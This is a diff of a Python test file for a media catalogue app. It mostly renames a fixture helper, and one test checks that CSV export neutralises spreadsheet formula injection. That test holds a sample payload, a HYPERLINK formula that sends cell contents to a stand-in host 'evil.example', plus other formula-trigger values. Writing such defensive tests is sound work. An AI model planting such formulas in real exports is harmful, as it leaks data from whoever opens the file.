@@ -11,8 +11,7 @@ from mediathek.app import create_app
 from mediathek.catalogue import import_jobs, imports
 from mediathek.catalogue.tables import Component, Copy, ImportJob, Title, TitleLanguage
 from mediathek.web.auth import SESSION_COOKIE, start_session
-from tests.catalogue_fixtures import make_title
-from tests.conftest import arm_csrf, http_client
+from tests.factories import arm_csrf, catalogued_title, http_client
 
 # Only a bound for a hung job: reading 50,000 rows takes its time on a busy machine.
 JOB_WAIT = 300
@@ -91,7 +90,7 @@ async def test_import_creates_titles_with_copies_and_reimport_creates_no_duplica
 
 
 async def test_titles_typed_in_by_hand_are_not_imported_again(client_for, staff):
-    await make_title(
+    await catalogued_title(
         title="Wimmelkoffer Bauernhof", publisher="Eigenbau", year="2022", media_type="kit"
     )
     async with client_for(staff) as c:
@@ -124,7 +123,7 @@ async def test_a_file_without_title_column_gets_a_clear_message(client_for, staf
 
 
 async def test_export_csv_can_be_imported_again_without_duplicates(client_for, staff):
-    await make_title(copies=2, media_type="kit", components=[("Würfel", "2")])
+    await catalogued_title(copies=2, media_type="kit", components=[("Würfel", "2")])
     async with client_for(staff) as c:
         r = await c.get("/verwaltung/export.csv")
         assert r.headers["content-type"].startswith("text/csv")
@@ -138,8 +137,10 @@ async def test_export_csv_can_be_imported_again_without_duplicates(client_for, s
 
 async def test_export_quotes_cells_that_spreadsheets_would_run_as_formulas(client_for, staff):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Hier klicken")'
-    await make_title(title=formula, publisher="+49 Verlag", description="@SUMME(A1)", copies=1)
-    await make_title(title="-5 Grad", isbn="", year="2020", publisher="-Verlag")
+    await catalogued_title(
+        title=formula, publisher="+49 Verlag", description="@SUMME(A1)", copies=1
+    )
+    await catalogued_title(title="-5 Grad", isbn="", year="2020", publisher="-Verlag")
     async with client_for(staff) as c:
         r = await c.get("/verwaltung/export.csv")
         rows = list(csv.DictReader(io.StringIO(r.text.lstrip("\ufeff")), delimiter=";"))
